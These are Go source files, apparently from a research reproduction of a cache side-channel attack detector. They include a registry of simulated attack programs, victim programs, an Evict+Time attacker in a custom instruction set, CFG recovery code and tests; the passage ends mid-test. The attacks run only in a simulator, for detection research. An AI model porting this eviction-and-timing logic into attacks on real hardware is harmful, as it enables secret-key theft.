	ppProbeThresholdSolo = 600
)

// registry of canonical constructors, populated lazily to keep
// initialization order simple.
type ctor struct {
	name   string
	family Family
	build  func(Params) PoC
}

func constructors() []ctor {
	return []ctor{
		{"FR-IAIK", FamilyFR, FlushReloadIAIK},
		{"FR-Mastik", FamilyFR, FlushReloadMastik},
		{"FR-Nepoche", FamilyFR, FlushReloadNepoche},
		{"FF-IAIK", FamilyFR, FlushFlushIAIK},
		{"ER-IAIK", FamilyFR, EvictReloadIAIK},
		{"PP-IAIK", FamilyPP, PrimeProbeIAIK},
		{"PP-Jzhang", FamilyPP, PrimeProbeJzhang},
		{"S-FR-Idea", FamilySFR, SpectreFRIdea},
		{"S-FR-Good", FamilySFR, SpectreFRGood},
		{"S-FR-Min", FamilySFR, SpectreFRMin},
		{"S-PP-Trippel", FamilySPP, SpectrePPTrippel},
	}
}

// All builds every canonical PoC of Table II with the given parameters.
func All(p Params) []PoC {
	cs := constructors()
	out := make([]PoC, 0, len(cs))
	for _, c := range cs {
		out = append(out, c.build(p))
	}
	return out
}

// extensions are the beyond-Table-II PoCs: addressable by name but not
// part of the canonical corpus (All/OfFamily/Names), so the paper's
// experiments keep their exact composition.
func extensions() []ctor {
	return []ctor{
		{"Meltdown-FR", FamilySFR, MeltdownFR},
		{"Evict-Time", FamilyPP, EvictTime},
		{"S-BTB", FamilySFR, SpectreBTB},
	}
}

// ExtensionNames lists the beyond-Table-II PoCs.
func ExtensionNames() []string {
	es := extensions()
	out := make([]string, 0, len(es))
	for _, e := range es {
		out = append(out, e.name)
	}
	sort.Strings(out)
	return out
}

// ByName builds the named PoC (canonical corpus or extension).
func ByName(name string, p Params) (PoC, error) {
	for _, c := range constructors() {
		if c.name == name {
			return c.build(p), nil
		}
	}
	for _, c := range extensions() {
		if c.name == name {
			return c.build(p), nil
		}
	}
	return PoC{}, fmt.Errorf("attacks: unknown PoC %q", name)
}

// Names lists the canonical PoC names, sorted.
func Names() []string {
	cs := constructors()
	out := make([]string, 0, len(cs))
	for _, c := range cs {
		out = append(out, c.name)
	}
	sort.Strings(out)
	return out
}

// OfFamily builds every canonical PoC of one family.
func OfFamily(f Family, p Params) []PoC {
	var out []PoC
	for _, c := range constructors() {
		if c.family == f {
			out = append(out, c.build(p))
		}
	}
	return out
}

// --- shared emission helpers ---------------------------------------------
//
// The helpers below are used with different compositions by the PoCs;
// individual implementations still differ in loop structure, register
// allocation and result handling so the corpus is not one program with
// eleven names.

// emitBusyWait emits a countdown wait loop using reg.
func emitBusyWait(b *isa.Builder, label string, reg isa.Reg, iters int) {
	b.Mov(isa.R(reg), isa.Imm(int64(iters))).
		Label(label).
		Dec(isa.R(reg)).
		Jne(label)
}

// emitLineAddr emits code computing base + idxReg*LineSize into dstReg.
func emitLineAddr(b *isa.Builder, dstReg, idxReg isa.Reg, base uint64) {
	b.Mov(isa.R(dstReg), isa.R(idxReg)).
		Shl(isa.R(dstReg), isa.Imm(6)).
		Add(isa.R(dstReg), isa.Imm(int64(base)))
}

// emitSetupNoise emits attack-irrelevant bookkeeping: initializing a
// private buffer plus a checksum or scrub pass — the kind of setup code
// real PoCs carry (argument handling, page-walking the mapped library,
// printfs). The prefix selects one of several structural styles so that
// PoCs from "different codebases" do not share identical boilerplate,
// mirroring reality.
func emitSetupNoise(b *isa.Builder, buf uint64, words int, prefix string, style int) {
	switch style % 3 {
	case 0:
		// Forward zeroing loop, then an additive checksum.
		b.Mov(isa.R(isa.R10), isa.Imm(0)).
			Label(prefix+"_zero").
			Lea(isa.R11, isa.MemIdx(isa.RegNone, isa.R10, 8, int64(buf))).
			Mov(isa.Mem(isa.R11, 0), isa.Imm(0)).
			Inc(isa.R(isa.R10)).
			Cmp(isa.R(isa.R10), isa.Imm(int64(words))).
			Jl(prefix + "_zero")
		b.Mov(isa.R(isa.R10), isa.Imm(0)).
			Mov(isa.R(isa.R12), isa.Imm(0)).
			Label(prefix+"_sum").
			Lea(isa.R11, isa.MemIdx(isa.RegNone, isa.R10, 8, int64(buf))).
			Mov(isa.R(isa.R13), isa.Mem(isa.R11, 0)).
			Add(isa.R(isa.R12), isa.R(isa.R13)).
			Xor(isa.R(isa.R13), isa.Imm(0x5a)).
			Inc(isa.R(isa.R10)).
			Cmp(isa.R(isa.R10), isa.Imm(int64(words))).
			Jl(prefix + "_sum")
	case 1:
		// Backward pointer walk writing a ramp, register-mixing epilogue.
		b.Mov(isa.R(isa.R10), isa.Imm(int64(buf)+int64((words-1)*8))).
			Mov(isa.R(isa.R12), isa.Imm(int64(words)))
		b.Label(prefix+"_ramp").
			Mov(isa.Mem(isa.R10, 0), isa.R(isa.R12)).
			Sub(isa.R(isa.R10), isa.Imm(8)).
			Dec(isa.R(isa.R12)).
			Jne(prefix + "_ramp")
		b.Mov(isa.R(isa.R13), isa.Imm(0x1234)).
			Mul(isa.R(isa.R13), isa.Imm(3)).
			Shr(isa.R(isa.R13), isa.Imm(2)).
			Xor(isa.R(isa.R13), isa.Imm(0x88))
	case 2:
		// Strided touch every other word with a folded hash.
		b.Mov(isa.R(isa.R10), isa.Imm(0)).
			Mov(isa.R(isa.R13), isa.Imm(0x9e37))
		b.Label(prefix+"_str").
			Lea(isa.R11, isa.MemIdx(isa.RegNone, isa.R10, 8, int64(buf))).
			Mov(isa.R(isa.R12), isa.Mem(isa.R11, 0)).
			Xor(isa.R(isa.R13), isa.R(isa.R12)).
			Mul(isa.R(isa.R13), isa.Imm(31)).
			Mov(isa.Mem(isa.R11, 0), isa.R(isa.R13)).
			Add(isa.R(isa.R10), isa.Imm(2)).
			Cmp(isa.R(isa.R10), isa.Imm(int64(words))).
			Jl(prefix + "_str")
	}
}

// emitResultScan emits attack-irrelevant post-processing over a results
// array; the style selects min-scan, sum-then-max, or threshold-count
// shapes so PoCs do not share identical epilogues.
func emitResultScan(b *isa.Builder, results uint64, n int, prefix string, style int) {
	switch style % 3 {
	case 0:
		// Minimum-latency scan.
		b.Mov(isa.R(isa.R10), isa.Imm(1)).
			Mov(isa.R(isa.R11), isa.Imm(0)). // best index
			Mov(isa.R(isa.R12), isa.Mem(isa.RegNone, int64(results))).
			Label(prefix+"_scan").
			Lea(isa.R13, isa.MemIdx(isa.RegNone, isa.R10, 8, int64(results))).
			Mov(isa.R(isa.R13), isa.Mem(isa.R13, 0)).
			Cmp(isa.R(isa.R13), isa.R(isa.R12)).
			Jae(prefix+"_keep").
			Mov(isa.R(isa.R12), isa.R(isa.R13)).
			Mov(isa.R(isa.R11), isa.R(isa.R10)).
			Label(prefix+"_keep").
			Inc(isa.R(isa.R10)).
			Cmp(isa.R(isa.R10), isa.Imm(int64(n))).
			Jl(prefix + "_scan")
	case 1:
		// Sum pass followed by an argmax pass.
		b.Mov(isa.R(isa.R10), isa.Imm(0)).
			Mov(isa.R(isa.R12), isa.Imm(0)).
			Label(prefix+"_sum").
			Lea(isa.R13, isa.MemIdx(isa.RegNone, isa.R10, 8, int64(results))).
			Add(isa.R(isa.R12), isa.Mem(isa.R13, 0)).
			Inc(isa.R(isa.R10)).
			Cmp(isa.R(isa.R10), isa.Imm(int64(n))).
			Jl(prefix + "_sum")
		b.Mov(isa.R(isa.R10), isa.Imm(0)).
			Mov(isa.R(isa.R11), isa.Imm(0)).
			Mov(isa.R(isa.R12), isa.Imm(0)).
			Label(prefix+"_max").
			Lea(isa.R13, isa.MemIdx(isa.RegNone, isa.R10, 8, int64(results))).
			Mov(isa.R(isa.R13), isa.Mem(isa.R13, 0)).
			Cmp(isa.R(isa.R13), isa.R(isa.R12)).
			Jle(prefix+"_nomax").
			Mov(isa.R(isa.R12), isa.R(isa.R13)).
			Mov(isa.R(isa.R11), isa.R(isa.R10)).
			Label(prefix+"_nomax").
			Inc(isa.R(isa.R10)).
			Cmp(isa.R(isa.R10), isa.Imm(int64(n))).
			Jl(prefix + "_max")
	case 2:
		// Count entries above the mean of first and last element.
		b.Mov(isa.R(isa.R12), isa.Mem(isa.RegNone, int64(results))).
			Lea(isa.R13, isa.MemIdx(isa.RegNone, isa.R10, 8, int64(results))).
			Add(isa.R(isa.R12), isa.Mem(isa.RegNone, int64(results)+int64((n-1)*8))).
			Shr(isa.R(isa.R12), isa.Imm(1)).
			Mov(isa.R(isa.R10), isa.Imm(0)).
			Mov(isa.R(isa.R11), isa.Imm(0)).
			Label(prefix+"_cnt").
			Lea(isa.R13, isa.MemIdx(isa.RegNone, isa.R10, 8, int64(results))).
			Mov(isa.R(isa.R13), isa.Mem(isa.R13, 0)).
			Cmp(isa.R(isa.R13), isa.R(isa.R12)).
			Jle(prefix+"_low").
			Inc(isa.R(isa.R11)).
			Label(prefix+"_low").
			Inc(isa.R(isa.R10)).
			Cmp(isa.R(isa.R10), isa.Imm(int64(n))).
			Jl(prefix + "_cnt")
	}
}
