package attacks

import (
	"testing"

	"repro/internal/exec"
)

func TestEvictTimeRecoversSecretSet(t *testing.T) {
	p := DefaultParams()
	poc := EvictTime(p)
	if err := poc.Program.Validate(); err != nil {
		t.Fatal(err)
	}
	m, err := exec.NewMachine(exec.DefaultConfig(), poc.Program, poc.Victim)
	if err != nil {
		t.Fatal(err)
	}
	tr := m.Run()
	if !tr.Halted {
		t.Fatal("Evict+Time did not halt")
	}
	base := segAddr(t, poc.Program, "slowdown")
	got, v := histogramArgmax(m, base, p.Lines)
	if got != p.Secret || v == 0 {
		for i := 0; i < p.Lines; i++ {
			t.Logf("set %2d: slowdown=%d", i, m.Memory().Load64(base+uint64(i*8)))
		}
		t.Errorf("Evict+Time recovered set %d (slowdown %d), want %d", got, v, p.Secret)
	}
}

func TestEvictTimeVictimPublishesProgress(t *testing.T) {
	p := DefaultParams()
	victim := EvictTimeVictim(p)
	// A quiet attacker: the counter must advance.
	qb := QuietVictim() // reuse the spinning program as the "attacker"
	cfg := exec.DefaultConfig()
	cfg.MaxRetired = 5000
	m, err := exec.NewMachine(cfg, qb, victim)
	if err != nil {
		t.Fatal(err)
	}
	m.Run()
	if m.Memory().Load64(evictTimeCounter) == 0 {
		t.Error("victim never published progress")
	}
}
