package attacks

import "repro/internal/isa"

// SharedVictim builds the victim the Flush+Reload family spies on: an
// endless loop whose memory accesses depend on its secret — each
// iteration touches shared line (secret) plus a small amount of private
// state, like a table-based crypto routine indexing its S-box with key
// material.
func SharedVictim(p Params) *isa.Program {
	p = p.withDefaults()
	b := isa.NewBuilder("victim-shared", VictimCodeBase)
	b.SetDataBase(VictimDataBase)
	priv := b.Bytes("vpriv", 512, false)

	secretLine := SharedBase + uint64(p.Secret)*LineSize
	b.Mov(isa.R(isa.R3), isa.Imm(0)) // iteration counter
	b.Label("work")
	// Secret-dependent shared access.
	b.Mov(isa.R(isa.R1), isa.Imm(int64(secretLine))).
		Mov(isa.R(isa.R0), isa.Mem(isa.R1, 0))
	// Private bookkeeping.
	b.Mov(isa.R(isa.R2), isa.R(isa.R3)).
		And(isa.R(isa.R2), isa.Imm(7)).
		Lea(isa.R4, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(priv))).
		Mov(isa.R(isa.R5), isa.Mem(isa.R4, 0)).
		Add(isa.R(isa.R5), isa.Imm(1)).
		Mov(isa.Mem(isa.R4, 0), isa.R(isa.R5))
	b.Inc(isa.R(isa.R3)).
		Jmp("work")
	return b.MustBuild()
}

// SetVictim builds the victim the Prime+Probe family spies on: it has no
// shared memory with the attacker; instead its secret selects which LLC
// set its private working data maps to, evicting the attacker's primed
// lines from exactly that set.
func SetVictim(p Params) *isa.Program {
	p = p.withDefaults()
	b := isa.NewBuilder("victim-set", VictimCodeBase)
	b.SetDataBase(VictimDataBase)
	priv := b.Bytes("vpriv", 512, false)

	// The victim's secret-dependent buffer: enough lines in the target
	// set to displace primed ways. The attacker monitors sets starting at
	// MonitoredSetOffset, so the victim's secret set lives there too.
	victimBuf := uint64(0x3800_0000)
	secretSetAddr := victimBuf + uint64(MonitoredSetOffset+p.Secret)*LineSize

	b.Mov(isa.R(isa.R3), isa.Imm(0))
	b.Label("work")
	// Touch several lines of the secret's LLC set (same set, different
	// tags, stride = EvictionStride).
	b.Mov(isa.R(isa.R2), isa.Imm(0)).
		Label("touch").
		Mov(isa.R(isa.R1), isa.R(isa.R2)).
		Mul(isa.R(isa.R1), isa.Imm(int64(EvictionStride))).
		Add(isa.R(isa.R1), isa.Imm(int64(secretSetAddr))).
		Mov(isa.R(isa.R0), isa.Mem(isa.R1, 0)).
		Inc(isa.R(isa.R2)).
		Cmp(isa.R(isa.R2), isa.Imm(4)).
		Jl("touch")
	// Private bookkeeping.
	b.Mov(isa.R(isa.R2), isa.R(isa.R3)).
		And(isa.R(isa.R2), isa.Imm(7)).
		Lea(isa.R4, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(priv))).
		Mov(isa.R(isa.R5), isa.Mem(isa.R4, 0)).
		Inc(isa.R(isa.R5)).
		Mov(isa.Mem(isa.R4, 0), isa.R(isa.R5))
	b.Inc(isa.R(isa.R3)).
		Jmp("work")
	return b.MustBuild()
}

// QuietVictim builds a victim with no secret-dependent access at all; it
// exists for experiments that need the attacker to run against silence.
func QuietVictim() *isa.Program {
	b := isa.NewBuilder("victim-quiet", VictimCodeBase)
	b.SetDataBase(VictimDataBase)
	b.Mov(isa.R(isa.R0), isa.Imm(0)).
		Label("spin").
		Inc(isa.R(isa.R0)).
		Jmp("spin")
	return b.MustBuild()
}

// AESTableVictim models the paper's motivating target: a crypto library
// whose S-box/T-table lives in shared memory (a shared library page).
// Each iteration it encrypts a fixed plaintext block: the table index is
// keyNibble XOR (round counter & 15), so the victim's shared-line access
// pattern is key-dependent — the access pattern Flush+Reload recovers.
//
// The table occupies 16 shared lines starting at SharedBase; an attacker
// monitoring those lines sees line (keyNibble XOR r) hot during round r.
// With the round counter pinned (rounds = 0 mod 16 layout below), the
// hottest line directly names the key nibble.
func AESTableVictim(keyNibble int) *isa.Program {
	keyNibble &= 15
	b := isa.NewBuilder("victim-aes", VictimCodeBase)
	b.SetDataBase(VictimDataBase)
	state := b.Bytes("vstate", 128, false)

	b.Mov(isa.R(isa.R7), isa.Imm(0)) // block counter
	b.Label("encrypt")
	// index = key ^ (block & 0) = key — the fixed-plaintext case where
	// every encryption touches the same key-dependent table line, the
	// cleanest Flush+Reload signal (chosen-plaintext attacks vary this).
	b.Mov(isa.R(isa.R1), isa.Imm(int64(keyNibble))).
		Shl(isa.R(isa.R1), isa.Imm(6)).
		Add(isa.R(isa.R1), isa.Imm(int64(SharedBase))).
		Mov(isa.R(isa.R0), isa.Mem(isa.R1, 0))
	// Mix into local state (the "encryption work").
	b.Mov(isa.R(isa.R2), isa.R(isa.R7)).
		And(isa.R(isa.R2), isa.Imm(15)).
		Lea(isa.R3, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(state))).
		Xor(isa.R(isa.R0), isa.Mem(isa.R3, 0)).
		Mov(isa.Mem(isa.R3, 0), isa.R(isa.R0))
	b.Inc(isa.R(isa.R7)).
		Jmp("encrypt")
	return b.MustBuild()
}
