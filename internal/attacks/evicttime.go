package attacks

import "repro/internal/isa"

// Evict+Time extension (Osvik et al.'s third classic technique, not in
// the paper's Table II corpus): instead of timing its own reloads or
// probes, the attacker times the *victim's* progress. The victim
// publishes an operations counter in shared memory; the attacker
// measures counter advance over a fixed window twice per monitored set —
// once undisturbed, once after evicting the set. If evicting set S slows
// the victim, the victim's secret-dependent data lives in S.
//
// Like MeltdownFR this PoC exists as a generalizability probe: the
// detector holds no Evict+Time model, yet the behavior — eviction
// sweeps, timer reads, repeated set interrogation — lands in the
// eviction-based families rather than benign.
const (
	// evictTimeCounter is the shared ops-counter the victim publishes.
	evictTimeCounter uint64 = 0x2100_0000
	// evictTimeBufBase is the attacker's eviction buffer (congruent to
	// the victim's monitored sets).
	evictTimeBufBase uint64 = 0x5c00_0000
)

// EvictTime builds the Evict+Time PoC and its counter-publishing victim.
func EvictTime(p Params) PoC {
	p = p.withDefaults()
	b := isa.NewBuilder("Evict-Time", AttackerCodeBase)
	evBytes := uint64(p.Lines)*LineSize + uint64(LLCWays+1)*EvictionStride + MonitoredSetOffset*LineSize
	b.DataAt("evbuf", evictTimeBufBase, evBytes, nil, false)
	scratch := b.Bytes("scratch", 128, false)
	slow := b.Bytes("slowdown", uint64(p.Lines)*8, false)

	emitSetupNoise(b, scratch, 8, "setup", 2)

	// measure: time how long the victim takes to complete K published
	// operations (the textbook Evict+Time measurement). When withEvict
	// is set the monitored set (index in R2) is re-evicted before every
	// operation, so a set the victim depends on pays one memory miss per
	// op — K misses of amplification. Elapsed cycles land in R9.
	// Clobbers R0, R3, R4, R5, R7, R8, R9, R12.
	const opsPerWindow = 4
	measure := func(prefix string, withEvict bool) {
		b.Rdtscp(isa.R7).
			Mov(isa.R(isa.R12), isa.Imm(opsPerWindow)).
			Label(prefix + "_op")
		if withEvict {
			b.Mov(isa.R(isa.R3), isa.Imm(0)).
				Label(prefix+"_ev").
				Mov(isa.R(isa.R4), isa.R(isa.R3)).
				And(isa.R(isa.R4), isa.Imm(LLCWays-1)). // mask the transient extra iteration
				Mul(isa.R(isa.R4), isa.Imm(int64(EvictionStride))).
				Mov(isa.R(isa.R5), isa.R(isa.R2)).
				Add(isa.R(isa.R5), isa.Imm(MonitoredSetOffset)).
				Shl(isa.R(isa.R5), isa.Imm(6)).
				Add(isa.R(isa.R4), isa.R(isa.R5)).
				Add(isa.R(isa.R4), isa.Imm(int64(evictTimeBufBase))).
				Mov(isa.R(isa.R0), isa.Mem(isa.R4, 0)).
				Inc(isa.R(isa.R3)).
				Cmp(isa.R(isa.R3), isa.Imm(int64(LLCWays))).
				Jl(prefix + "_ev")
		}
		b.Mov(isa.R(isa.R8), isa.Mem(isa.RegNone, int64(evictTimeCounter))).
			Label(prefix+"_poll").
			Mov(isa.R(isa.R9), isa.Mem(isa.RegNone, int64(evictTimeCounter))).
			Cmp(isa.R(isa.R9), isa.R(isa.R8)).
			Je(prefix+"_poll").
			Dec(isa.R(isa.R12)).
			Jne(prefix+"_op").
			Rdtscp(isa.R9).
			Sub(isa.R(isa.R9), isa.R(isa.R7))
	}

	b.Mov(isa.R(isa.R11), isa.Imm(int64(p.Rounds)))
	b.Label("round")
	b.Mov(isa.R(isa.R2), isa.Imm(0)) // set index
	b.Label("sets")

	// Baseline window (no eviction).
	measure("base", false)
	b.Mov(isa.R(isa.R10), isa.R(isa.R9)) // baseline elapsed cycles

	// Timed window with per-operation eviction of the monitored set.
	b.BeginAttack()
	measure("evicted", true)
	// slowdown[set] += evictedElapsed - baselineElapsed (positive when
	// the victim depends on the evicted set).
	b.Sub(isa.R(isa.R9), isa.R(isa.R10)).
		Cmp(isa.R(isa.R9), isa.Imm(0)).
		Jle("noslow").
		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(slow))).
		Mov(isa.R(isa.R7), isa.Mem(isa.R6, 0)).
		Add(isa.R(isa.R7), isa.R(isa.R9)).
		Mov(isa.Mem(isa.R6, 0), isa.R(isa.R7)).
		EndAttack().
		Label("noslow")

	b.Inc(isa.R(isa.R2)).
		Cmp(isa.R(isa.R2), isa.Imm(int64(p.Lines))).
		Jl("sets")
	b.Dec(isa.R(isa.R11)).
		Jne("round")
	emitResultScan(b, slow, p.Lines, "post", 1)
	b.Hlt()
	return PoC{Name: "Evict-Time", Family: FamilyPP, Program: b.MustBuild(), Victim: EvictTimeVictim(p)}
}

// EvictTimeVictim repeatedly performs a secret-dependent table access
// and publishes an operations counter to shared memory. When the
// attacker evicts the table's set, each iteration pays memory latency
// and the published rate drops.
func EvictTimeVictim(p Params) *isa.Program {
	p = p.withDefaults()
	b := isa.NewBuilder("victim-evict-time", VictimCodeBase)
	b.SetDataBase(VictimDataBase)

	// The secret-dependent working line, in the monitored set range.
	tableLine := uint64(0x3900_0000) + uint64(MonitoredSetOffset+p.Secret)*LineSize

	b.Mov(isa.R(isa.R5), isa.Imm(int64(evictTimeCounter))).
		Mov(isa.R(isa.R6), isa.Imm(int64(tableLine)))
	b.Label("op")
	// The "encryption": several dependent accesses to the secret line.
	b.Mov(isa.R(isa.R0), isa.Mem(isa.R6, 0)).
		Add(isa.R(isa.R0), isa.Imm(1)).
		Mov(isa.Mem(isa.R6, 0), isa.R(isa.R0)).
		Mov(isa.R(isa.R1), isa.Mem(isa.R6, 8)).
		Xor(isa.R(isa.R1), isa.R(isa.R0))
	// Publish progress.
	b.Mov(isa.R(isa.R2), isa.Mem(isa.R5, 0)).
		Inc(isa.R(isa.R2)).
		Mov(isa.Mem(isa.R5, 0), isa.R(isa.R2)).
		Jmp("op")
	return b.MustBuild()
}
