// Package cfg recovers control flow graphs from ISA programs — the
// reproduction's stand-in for Angr's CFG recovery on binaries
// (Section III-A1 of the paper).
//
// Recovery is the classic leader algorithm: the program entry, every
// static branch target and every instruction following a branch starts a
// basic block; blocks end at branches or right before the next leader.
// Indirect branches and RET contribute no static successors, exactly as
// a conservative binary-level CFG would.
package cfg

import (
	"fmt"
	"sort"

	"repro/internal/graph"
	"repro/internal/isa"
)

// BasicBlock is a straight-line instruction sequence (Definition 1).
// Its identity is the address of its first instruction (the leader).
type BasicBlock struct {
	Leader uint64
	Insns  []isa.Instruction
}

// Last returns the final instruction of the block.
func (b *BasicBlock) Last() isa.Instruction { return b.Insns[len(b.Insns)-1] }

// End returns the first address past the block.
func (b *BasicBlock) End() uint64 { return b.Last().Next() }

// Contains reports whether addr is the address of one of the block's
// instructions.
func (b *BasicBlock) Contains(addr uint64) bool {
	for _, in := range b.Insns {
		if in.Addr == addr {
			return true
		}
	}
	return false
}

// HasAttackMark reports whether any instruction carries the ground-truth
// attack mark (evaluation only).
func (b *BasicBlock) HasAttackMark() bool {
	for _, in := range b.Insns {
		if in.Attack {
			return true
		}
	}
	return false
}

// CFG is the control flow graph of a program (Definition 1): blocks keyed
// by leader address plus a digraph over leaders.
type CFG struct {
	Prog   *isa.Program
	Blocks map[uint64]*BasicBlock
	G      *graph.Digraph

	addrToLeader map[uint64]uint64
}

// Build recovers the CFG of p.
func Build(p *isa.Program) (*CFG, error) {
	if err := p.Validate(); err != nil {
		return nil, err
	}
	leaders := map[uint64]bool{p.Entry: true}
	if len(p.Insns) > 0 {
		leaders[p.Insns[0].Addr] = true
	}
	for _, in := range p.Insns {
		if !in.Op.IsBranch() {
			continue
		}
		if t, ok := in.BranchTarget(); ok {
			leaders[t] = true
		}
		// The instruction after any branch (even unconditional: it may be
		// a join target reached from elsewhere) starts a block when it
		// exists.
		if _, ok := p.At(in.Next()); ok {
			leaders[in.Next()] = true
		}
	}

	c := &CFG{
		Prog:         p,
		Blocks:       make(map[uint64]*BasicBlock),
		G:            graph.New(),
		addrToLeader: make(map[uint64]uint64, len(p.Insns)),
	}

	// Carve blocks between leaders. Instructions are sorted already.
	var cur *BasicBlock
	flush := func() {
		if cur != nil {
			c.Blocks[cur.Leader] = cur
			c.G.AddNode(cur.Leader)
			cur = nil
		}
	}
	for i, in := range p.Insns {
		gap := i > 0 && p.Insns[i-1].Next() != in.Addr
		if leaders[in.Addr] || gap || cur == nil {
			flush()
			cur = &BasicBlock{Leader: in.Addr}
		}
		cur.Insns = append(cur.Insns, in)
		c.addrToLeader[in.Addr] = cur.Leader
		if in.Op.IsBranch() || in.Op == isa.HLT {
			flush()
		}
	}
	flush()

	// Edges.
	for _, bb := range c.Blocks {
		last := bb.Last()
		switch {
		case last.Op == isa.HLT:
			// terminal
		case last.Op == isa.RET:
			// no static successor
		case last.Op == isa.JMP || last.Op == isa.CALL:
			if t, ok := last.BranchTarget(); ok {
				c.G.AddEdge(bb.Leader, c.addrToLeader[t])
			}
			if last.Op == isa.CALL {
				// A call returns: fallthrough edge approximates the
				// post-return control flow, as binary CFG tools do.
				if _, ok := p.At(last.Next()); ok {
					c.G.AddEdge(bb.Leader, c.addrToLeader[last.Next()])
				}
			}
		case last.Op.IsCondBranch():
			if t, ok := last.BranchTarget(); ok {
				c.G.AddEdge(bb.Leader, c.addrToLeader[t])
			}
			if _, ok := p.At(last.Next()); ok {
				c.G.AddEdge(bb.Leader, c.addrToLeader[last.Next()])
			}
		default:
			// Plain fallthrough into the next leader.
			if _, ok := p.At(last.Next()); ok {
				c.G.AddEdge(bb.Leader, c.addrToLeader[last.Next()])
			}
		}
	}
	return c, nil
}

// MustBuild panics on error; for tests and static corpora.
func MustBuild(p *isa.Program) *CFG {
	c, err := Build(p)
	if err != nil {
		panic(err)
	}
	return c
}

// LeaderOf maps any instruction address to its block leader.
func (c *CFG) LeaderOf(addr uint64) (uint64, bool) {
	l, ok := c.addrToLeader[addr]
	return l, ok
}

// Block returns the block with the given leader.
func (c *CFG) Block(leader uint64) (*BasicBlock, bool) {
	b, ok := c.Blocks[leader]
	return b, ok
}

// Leaders returns all block leaders in ascending address order.
func (c *CFG) Leaders() []uint64 {
	out := make([]uint64, 0, len(c.Blocks))
	for l := range c.Blocks {
		out = append(out, l)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// NumBlocks returns the block count (#BB of Table IV).
func (c *CFG) NumBlocks() int { return len(c.Blocks) }

// EntryLeader returns the leader of the entry block.
func (c *CFG) EntryLeader() uint64 {
	l, ok := c.addrToLeader[c.Prog.Entry]
	if !ok {
		return c.Prog.Entry
	}
	return l
}

// GroundTruthAttackBlocks returns the leaders of blocks containing at
// least one ground-truth-marked instruction (#TAB of Table IV).
func (c *CFG) GroundTruthAttackBlocks() []uint64 {
	var out []uint64
	for _, l := range c.Leaders() {
		if c.Blocks[l].HasAttackMark() {
			out = append(out, l)
		}
	}
	return out
}

// String summarizes the CFG.
func (c *CFG) String() string {
	return fmt.Sprintf("cfg{%s: %d blocks, %d edges}", c.Prog.Name, c.NumBlocks(), c.G.NumEdges())
}
