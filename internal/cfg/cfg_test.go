package cfg

import (
	"strings"
	"testing"

	"repro/internal/isa"
)

func TestStraightLineProgram(t *testing.T) {
	b := isa.NewBuilder("straight", 0)
	b.Nop().Nop().Nop().Hlt()
	c := MustBuild(b.MustBuild())
	if c.NumBlocks() != 1 {
		t.Fatalf("blocks = %d, want 1", c.NumBlocks())
	}
	if c.G.NumEdges() != 0 {
		t.Errorf("edges = %d, want 0", c.G.NumEdges())
	}
	bb := c.Blocks[c.EntryLeader()]
	if len(bb.Insns) != 4 || bb.Last().Op != isa.HLT {
		t.Errorf("block = %+v", bb)
	}
	if bb.End() != 16 {
		t.Errorf("End = %d", bb.End())
	}
}

func TestLoopCFG(t *testing.T) {
	b := isa.NewBuilder("loop", 0)
	b.Mov(isa.R(isa.R0), isa.Imm(10)). // b0
						Label("loop"). // b1
						Dec(isa.R(isa.R0)).
						Jne("loop").
						Hlt() // b2
	c := MustBuild(b.MustBuild())
	if c.NumBlocks() != 3 {
		t.Fatalf("blocks = %d, want 3; leaders %v", c.NumBlocks(), c.Leaders())
	}
	loop := c.Prog.Labels["loop"]
	// Loop block: self edge + exit edge.
	if !c.G.HasEdge(loop, loop) {
		t.Error("missing loop back edge")
	}
	succs := c.G.Succs(loop)
	if len(succs) != 2 {
		t.Errorf("loop succs = %v", succs)
	}
	// Entry falls through into loop.
	if !c.G.HasEdge(c.EntryLeader(), loop) {
		t.Error("missing entry->loop edge")
	}
}

func TestDiamondCFG(t *testing.T) {
	b := isa.NewBuilder("diamond", 0)
	b.Cmp(isa.R(isa.R0), isa.Imm(0)). // b0
						Je("else").
						Mov(isa.R(isa.R1), isa.Imm(1)). // then
						Jmp("join").
						Label("else").
						Mov(isa.R(isa.R1), isa.Imm(2)).
						Label("join").
						Hlt()
	c := MustBuild(b.MustBuild())
	if c.NumBlocks() != 4 {
		t.Fatalf("blocks = %d, want 4", c.NumBlocks())
	}
	entry := c.EntryLeader()
	elseL := c.Prog.Labels["else"]
	join := c.Prog.Labels["join"]
	thenL := uint64(8) // after the Je at addr 4
	if !c.G.HasEdge(entry, elseL) || !c.G.HasEdge(entry, thenL) {
		t.Error("entry must branch to both arms")
	}
	if !c.G.HasEdge(thenL, join) || !c.G.HasEdge(elseL, join) {
		t.Error("both arms must reach join")
	}
}

func TestCallFallthroughEdge(t *testing.T) {
	b := isa.NewBuilder("call", 0)
	b.Call("fn"). // b0
			Hlt(). // b1 (post-call)
			Label("fn").
			Ret() // b2
	c := MustBuild(b.MustBuild())
	entry := c.EntryLeader()
	fn := c.Prog.Labels["fn"]
	if !c.G.HasEdge(entry, fn) {
		t.Error("missing call edge")
	}
	if !c.G.HasEdge(entry, 4) {
		t.Error("missing post-call fallthrough edge")
	}
	if len(c.G.Succs(fn)) != 0 {
		t.Error("RET must have no static successors")
	}
}

func TestIndirectJumpNoSuccessor(t *testing.T) {
	b := isa.NewBuilder("ind", 0)
	b.Mov(isa.R(isa.R0), isa.Imm(8)).
		Raw(isa.JMP, isa.R(isa.R0), isa.None()).
		Hlt()
	c := MustBuild(b.MustBuild())
	entry := c.EntryLeader()
	if len(c.G.Succs(entry)) != 0 {
		t.Errorf("indirect jump succs = %v", c.G.Succs(entry))
	}
	// The HLT after the JMP is still carved into its own block.
	if c.NumBlocks() != 2 {
		t.Errorf("blocks = %d", c.NumBlocks())
	}
}

func TestLeaderOfMidBlock(t *testing.T) {
	b := isa.NewBuilder("mid", 0x100)
	b.Nop().Nop().Nop().Hlt()
	c := MustBuild(b.MustBuild())
	if l, ok := c.LeaderOf(0x108); !ok || l != 0x100 {
		t.Errorf("LeaderOf(0x108) = %#x,%v", l, ok)
	}
	if _, ok := c.LeaderOf(0x999); ok {
		t.Error("LeaderOf(bogus) must fail")
	}
	if _, ok := c.Block(0x100); !ok {
		t.Error("Block(leader) must succeed")
	}
	if _, ok := c.Block(0x104); ok {
		t.Error("Block(non-leader) must fail")
	}
}

func TestGroundTruthBlocks(t *testing.T) {
